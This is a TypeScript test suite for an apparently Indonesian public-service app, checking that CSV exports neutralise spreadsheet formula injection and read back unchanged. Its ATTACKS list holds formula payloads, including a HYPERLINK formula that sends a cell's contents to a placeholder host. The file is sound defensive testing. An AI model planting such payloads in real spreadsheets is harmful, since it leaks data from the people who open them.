import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readTableFile } from '$lib/import/table/file';
import { parseCsv } from '$lib/import/table/csv';
import { csvExport, withoutFormulaNeutralizer, safeCsvText } from '$lib/import/table/csv-export';
import { exportMaster } from '$lib/import/master/file';
import { FORMULA_START } from '$lib/import/table/xlsx-write';

const ATTACKS = [
	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
	'@SUM(1+1)',
	'\t=1+1',
	'＝1+1'
];

describe('every CSV the app writes', () => {
	it('neutralises formula text in a master-data export, as in the reports', () => {
		const unit = {
			id: 'u1',
			nama: ATTACKS[0]!,
			singkatan: '',
			jenis: 'dinas' as const,
			dinilaiIndeks: true,
			layananSkm: false
		};
		const file = exportMaster('unit', [unit], 'csv', '2026-12-06');
		const cells = parseCsv(new TextDecoder().decode(file.isi)).rows[0]!.cells;
		expect(cells).toContain(`'${ATTACKS[0]}`);
		expect(cells.some((c) => FORMULA_START.test(c))).toBe(false);
	});

	it('keeps numbers as numbers, negative ones too', () => {
		const text = csvExport(['a', 'b'], [[-2.5, 'Antrean lama - mohon ditambah']]);
		expect(parseCsv(text).rows[0]!.cells).toEqual(['-2,5', 'Antrean lama - mohon ditambah']);
	});

	it('reads back exactly the text it wrote, whatever the text', () => {
		const text = fc.oneof(
			fc.string(),
			fc.constantFrom(...ATTACKS, "'=1", "''@x", "'plain"),
			fc.tuple(fc.constantFrom("'", "''", '='), fc.string()).map(([a, b]) => a + b)
		);
		fc.assert(
			fc.property(text, (s) => {
				expect(withoutFormulaNeutralizer(safeCsvText(s))).toBe(s);
				expect(FORMULA_START.test(safeCsvText(s))).toBe(false);
			})
		);
	});

	it('takes the apostrophe off when such a CSV is imported', () => {
		const bytes = new TextEncoder().encode(csvExport(['nama'], [[ATTACKS[1]!]]));
		const result = readTableFile('x.csv', bytes);
		expect(result.ok && result.tabel.rows[0]!.cells[0]).toBe(ATTACKS[1]);
	});
});
